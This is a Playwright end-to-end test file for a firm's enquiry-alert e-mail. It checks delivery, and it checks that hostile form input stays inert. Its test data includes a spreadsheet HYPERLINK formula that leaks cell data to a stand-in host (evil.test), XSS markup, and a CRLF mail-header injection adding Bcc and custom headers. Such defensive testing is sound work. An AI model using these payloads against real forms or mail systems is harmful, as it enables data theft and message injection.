import type { Page } from '@playwright/test';
import { demoKeys, localEnquiryAlertSecret } from '@staycompliant/dev-backend/testing';
import { backendUrl, sitePort } from '@staycompliant/local-ports';
import { fillEnquiry, openContactDialog, readRows, toastWith } from '../contact/contact-helpers';
import { expect, test } from '../support/fixtures';
import { hostileMarkup, recordDialogs } from '../support/inert-text';
import { uniqueEmail } from '../support/unique-names';
import { mailHolding, waitForOneMail } from './mail-helpers';

// The enquiry alert end to end (docs/architecture/enquiry-alert.md, "The enquiry alert"): the production build, the local
// backend running enquiry-alert on Deno, and maildev as the firm's mail server (e2e/serve-for-tests.mjs).
// The alert leaves with the dispatcher's next tick: every 10 s hosted (Supabase Cron's job), every 0.5 s
// here (ALERT_DISPATCH_MS in e2e/serve-for-tests.mjs). Each test waits for the e-mail itself, for at most
// a tick and the send on a loaded machine.
const mailWithinMs = 10_000;
// A page, a form and that wait: more than the default 30 s on a loaded machine.
test.describe.configure({ timeout: 60_000 });

const thanks = "Thank you! We'll get back to you soon.";
const functionUrl = `${backendUrl()}/functions/v1/enquiry-alert`;
const inboxUrl = `http://127.0.0.1:${sitePort()}/admin/enquiries`;

test('a visitor sends an enquiry and by the next dispatch the firm has an e-mail with its fields and a link to it in the inbox', async ({
  page,
  request,
}, testInfo) => {
  const email = uniqueEmail('Alert.Reader', testInfo.project.name);
  await page.goto('/about');
  const dialog = await openContactDialog(page);
  await fillEnquiry(page, dialog, {
    name: 'Katherine Johnson',
    email,
    companySize: 'More than 100 employees',
    services: ['Accounting & Bookkeeping', 'Controller & CFO Advisory'],
    description: 'We are closing our books for the year and need a fractional CFO.',
  });
  const submittedAt = Date.now();
  await dialog.getByRole('button', { name: 'Submit' }).click();
  await expect(toastWith(page, thanks)).toBeVisible();

  const { mail } = await waitForOneMail(email.toLowerCase(), mailWithinMs);
  const secondsToMail = (Date.now() - submittedAt) / 1000;
  testInfo.annotations.push({ type: 'submit to mail', description: `${secondsToMail.toFixed(2)} s` });
  console.log(`[${testInfo.project.name}] submit to mail in the catcher: ${secondsToMail.toFixed(2)} s`);

  const [row] = await readRows<{ id: string; created_at: string }>(
    request,
    'contact_submissions',
    `email=eq.${encodeURIComponent(email.toLowerCase())}`,
  );
  const link = `${inboxUrl}?id=${row!.id}`;
  expect(mail.subject).toBe('New enquiry from Katherine Johnson (100+)');
  expect(mail.to.map((to) => to.address)).toEqual(['enquiries@staycompliant.test']);
  expect(mail.headers['message-id']).toBe(`<enquiry-${row!.id}@staycompliant.test>`);
  for (const part of [mail.text, mail.html]) {
    for (const field of [
      'Katherine Johnson',
      email.toLowerCase(),
      '100+',
      'Accounting &',
      'Controller &',
      'We are closing our books for the year and need a fractional CFO.',
      new Date(row!.created_at).toUTCString(),
      link,
    ]) {
      expect(part).toContain(field);
    }
  }
});

const formula = '=HYPERLINK("http://evil.test/?leak="&A1,"Click me")';

/** The HTML part, rendered as a mail client would: the visitor's text shows as text and makes nothing. */
async function expectInertHtml(page: Page, html: string, visibleTexts: string[]) {
  const dialogs = recordDialogs(page);
  expect(html).not.toMatch(/<img|<script|<svg/i);
  await page.setContent(html);
  await expect(page.locator('img, script, svg, [onerror], [onload]')).toHaveCount(0);
  for (const text of visibleTexts) await expect(page.getByText(text).first()).toBeVisible();
  await expect(page.getByRole('link')).toHaveCount(1);
  await expect(page.getByRole('link', { name: 'Open it in the inbox' })).toHaveAttribute(
    'href',
    new RegExp(`^${inboxUrl.replace(/[.?]/g, '\\$&')}\\?id=[0-9a-f-]{36}$`),
  );
  expect(dialogs).toEqual([]);
}

test('a hostile enquiry sent through the dialog is inert in the e-mail: markup, quotes and a formula stay text', async ({
  page,
}, testInfo) => {
  const email = uniqueEmail('Hostile.Form', testInfo.project.name);
  const name = `Mallory ${hostileMarkup.image} "O'Neil"`;
  const description = `${formula} ${hostileMarkup.script} ${hostileMarkup.attributeBreakout} & done`;
  await page.goto('/about');
  const dialog = await openContactDialog(page);
  await fillEnquiry(page, dialog, { name, email, companySize: 'Fewer than 10 employees', services: ['Legal Services'], description });
  await dialog.getByRole('button', { name: 'Submit' }).click();
  await expect(toastWith(page, thanks)).toBeVisible();

  const { mail } = await waitForOneMail(email.toLowerCase(), mailWithinMs);
  expect(mail.subject).toBe(`New enquiry from ${name} (less than 10)`);
  expect(mail.html).toContain('Mallory &lt;img src=x onerror=alert(1)&gt; &quot;O&#39;Neil&quot;');
  expect(mail.html).toContain('=HYPERLINK(&quot;http://evil.test/?leak=&quot;&amp;A1,&quot;Click me&quot;)');
  expect(mail.text).toContain(`Name: ${name}`);
  expect(mail.text).toContain(description);
  await expectInertHtml(page, mail.html, [name, formula, hostileMarkup.script]);
});

test('a newline in the name, sent as anon through the REST API, reaches no mail header', async ({ page, request }, testInfo) => {
  const email = uniqueEmail('Hostile.Header', testInfo.project.name).toLowerCase();
  // The dialog's Name field is one line; a script can still send one as anon.
  const hostile = {
    name: `Mallory ${hostileMarkup.image}\r\nBcc: victim@example.com\nX-Injected: yes`,
    email,
    company_size: 'less than 10',
    services_interested: ['Legal Services'],
    description: `${formula}\n"double" 'single' & done`,
  };
  const { anonKey } = demoKeys();
  const stored = await request.post(`${backendUrl()}/rest/v1/contact_submissions`, {
    headers: { apikey: anonKey, Authorization: `Bearer ${anonKey}`, 'Content-Type': 'application/json' },
    data: hostile,
  });
  expect(stored.status()).toBe(201);
  const [row] = await readRows<{ name: string }>(request, 'contact_submissions', `email=eq.${encodeURIComponent(email)}`);
  expect(row!.name).toBe(hostile.name);

  const { mail } = await waitForOneMail(email, mailWithinMs);
  expect(mail.subject).toBe(`New enquiry from Mallory ${hostileMarkup.image} Bcc: victim@example.com X-Injected: yes (less than 10)`);
  expect(Object.keys(mail.headers)).not.toContain('x-injected');
  expect(Object.keys(mail.headers)).not.toContain('bcc');
  expect(JSON.stringify(mail.to)).not.toContain('victim');
  expect(mail.text).not.toMatch(/^(Bcc|X-Injected):/m);
  await expectInertHtml(page, mail.html, ['Bcc: victim@example.com', formula]);
});

test('the function answers 401 to a call without the shared secret, or with a wrong one, and sends nothing', async ({
  request,
}, testInfo) => {
  const forged = uniqueEmail('forged', testInfo.project.name).toLowerCase();
  // The dispatcher's body: one message of the queue with its enquiry.
  const payload = {
    messages: [
      {
        msg_id: 1,
        read_ct: 1,
        enquiry: {
          id: crypto.randomUUID(),
          name: 'Forged',
          email: forged,
          company_size: '100+',
          services_interested: ['Tax Filing'],
          description: 'A forged call.',
          created_at: new Date().toISOString(),
        },
      },
    ],
  };
  const { anonKey, serviceRoleKey } = demoKeys();
  const wrong: Record<string, string>[] = [
    {},
    { 'x-webhook-secret': 'guess' },
    { 'x-webhook-secret': '' },
    { apikey: serviceRoleKey, Authorization: `Bearer ${serviceRoleKey}` },
    { apikey: anonKey },
  ];
  for (const headers of wrong) {
    const response = await request.post(functionUrl, { headers: { 'Content-Type': 'application/json', ...headers }, data: payload });
    expect(response.status(), JSON.stringify(headers)).toBe(401);
  }
  await new Promise((resolve) => setTimeout(resolve, 500));
  expect(await mailHolding(forged)).toEqual([]);
  // The same call with the secret is taken: the 401s were about the secret, not the payload.
  const taken = await request.post(functionUrl, { headers: { 'x-webhook-secret': localEnquiryAlertSecret }, data: payload });
  expect(taken.status()).toBe(200);
  await waitForOneMail(forged, mailWithinMs);
});
